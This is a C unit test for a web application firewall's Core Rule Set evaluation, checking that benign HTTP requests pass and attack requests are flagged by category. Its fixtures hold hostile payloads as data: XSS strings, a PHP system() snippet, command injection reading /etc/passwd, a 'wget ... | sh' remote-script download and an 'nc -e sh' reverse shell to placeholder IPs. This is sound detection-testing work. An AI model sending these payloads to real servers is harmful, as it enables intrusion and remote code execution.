// SPDX-License-Identifier: GPL-2.0
/*
 * The worker's CRS evaluation (user/inspect/crs.c) on Debian's rules: the
 * shipped base configuration loads with the scoped rule files, benign
 * requests stay clean, attacks in a query, a form, a JSON body and a header
 * are flagged with the right category, and the verdict carries the path
 * without its query.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>
#include "inspect/crs.h"
#include "inspect/http1.h"

#define RULES	"/usr/share/modsecurity-crs/rules"

static struct crs *crs;
static struct moat_insp_verdict last;
static size_t n_seen;

static void on_request(void *ctx, const struct h1_request *r)
{
	memset(&last, 0, sizeof(last));
	assert_int_equal(crs_eval(crs, r, "198.18.1.2", 40000, &last), 0);
	n_seen++;
}

/*
 * Parses one raw request and evaluates it; returns the verdict's result.
 * A \x01 in raw stands for the Content-Length header and the blank line,
 * counted from what follows it.
 */
static int eval(const char *in)
{
	struct h1_conn *c = h1_new(64 * 1024, on_request, NULL);
	const char *mark = strchr(in, '\x01');
	char raw[4096];

	if (mark)
		snprintf(raw, sizeof(raw), "%.*sContent-Length: %zu\r\n\r\n%s", (int)(mark - in), in,
			 strlen(mark + 1), mark + 1);
	else
		snprintf(raw, sizeof(raw), "%s", in);
	n_seen = 0;
	assert_int_equal(h1_feed(c, raw, strlen(raw)), 0);
	h1_free(c);
	assert_int_equal(n_seen, 1);
	return last.result;
}

static int setup(void **state)
{
	char err[512];

	crs = crs_load(RULES, 1, err, sizeof(err));
	if (!crs)
		fprintf(stderr, "crs_load: %s\n", err);
	return crs ? 0 : -1;
}

static int teardown(void **state)
{
	crs_free(crs);
	return 0;
}

static void test_benign(void **state)
{
	static const char *const reqs[] = {
		"GET /search?q=hello+world&lang=en HTTP/1.1\r\nHost: gw\r\nAccept: */*\r\n\r\n",
		"POST /login HTTP/1.1\r\nHost: gw\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		"Cookie: session=abc123\r\nContent-Length: 29\r\n\r\nuser=alice&password=s3cr3t%21",
		"POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
		"\001{\"title\":\"Notes\",\"tags\":[\"a\",1]}",
		"GET /docs/intro.html HTTP/1.1\r\nHost: gw\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n",
	};

	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		assert_int_equal(eval(reqs[i]), MOAT_INSP_CLEAN);
		assert_int_equal(last.n_rules, 0);
	}
}

struct attack {
	const char *raw;
	enum moat_insp_category category;
};

static void test_attacks(void **state)
{
	static const struct attack reqs[] = {
		{ "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\nHost: gw\r\n\r\n",
		  MOAT_INSP_XSS },
		{ "POST /ping HTTP/1.1\r\nHost: gw\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		  "\001host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd", MOAT_INSP_RCE },
		{ "POST /api HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n"
		  "\001{\"name\":\"<img src=x onerror=alert(1)>\"}", MOAT_INSP_XSS },
		{ "GET /x?f=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E HTTP/1.1\r\nHost: gw\r\n\r\n",
		  MOAT_INSP_PHP },
		{ "GET / HTTP/1.1\r\nHost: gw\r\nReferer: javascript:alert(document.cookie)\r\n\r\n",
		  MOAT_INSP_XSS },
		{ "POST /upload HTTP/1.1\r\nHost: gw\r\n"
		  "Content-Type: multipart/form-data; boundary=XyZ\r\n\001"
		  "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n"
		  ";wget http://198.51.100.9/x.sh -O- | sh\r\n--XyZ--\r\n", MOAT_INSP_RCE },
	};

	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		assert_int_equal(eval(reqs[i].raw), MOAT_INSP_DETECTED);
		assert_int_equal(last.category, reqs[i].category);
		assert_true(last.n_rules > 0);
	}
}

/* What crs-tuning.conf promises: what it lets through, what it still catches. */
static void test_tuning(void **state)
{
	static const char *const clean[] = {
		/* 933210 removed for Markdown links */
		"POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		"\001body=see+%5Bthe+docs%5D(https%3A%2F%2Fexample.org%2Fdocs)+and+%21%5Bimg%5D(%2Fa.png)",
		/* 932150 replaced: a sentence starting with a command */
		"POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
		"\001body=sudo+apt-get+install+nginx+fixed+it+for+me",
		/* common words that are commands, as values and as names */
		"GET /list?sort=id&host=a&cat=books&id=1 HTTP/1.1\r\nHost: gw\r\n\r\n",
		"POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\001{\"vars\":[\"id\",\"name\"]}",
		/* a word starting with "id" after a separator */
		"GET /q?t=pros%7Cideas HTTP/1.1\r\nHost: gw\r\n\r\n",
	};
	static const struct attack caught[] = {
		{ "GET /x?f=(system)('id') HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
		{ "GET /x?f=(%22sys%22.%22tem%22)(%24c) HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
		{ "GET /x?f=%5Bsystem%5D%5B0%5D(%22id%22) HTTP/1.1\r\n\r\n", MOAT_INSP_PHP },
		{ "GET /x?c=whoami HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=cat+%2Fetc%2Fhosts HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=c%27a%27t+%2Fetc%2Fhosts HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=sudo+nc+-e+sh+198.51.100.7 HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=x%7Cid HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=x%0Aid HTTP/1.1\r\n\r\n", MOAT_INSP_RCE },
		{ "GET /x?c=require(%22fs%22).readFileSync(1) HTTP/1.1\r\n\r\n", MOAT_INSP_NODEJS },
	};

	for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
		if (eval(clean[i]) != MOAT_INSP_CLEAN)
			fail_msg("clean[%zu] flagged, rule %u", i, last.rules[0]);
		assert_int_equal(last.n_rules, 0);
	}
	for (size_t i = 0; i < sizeof(caught) / sizeof(caught[0]); i++) {
		if (eval(caught[i].raw) != MOAT_INSP_DETECTED)
			fail_msg("caught[%zu] not flagged", i);
		assert_int_equal(last.category, caught[i].category);
	}
}

static void test_path_without_query(void **state)
{
	eval("GET /search/x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\nHost: gw\r\n\r\n");
	assert_string_equal(last.path, "/search/x");
	assert_string_equal(last.method, "GET");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_tuning),
		cmocka_unit_test(test_path_without_query),
	};

	return cmocka_run_group_tests_name("crs", tests, setup, teardown);
}
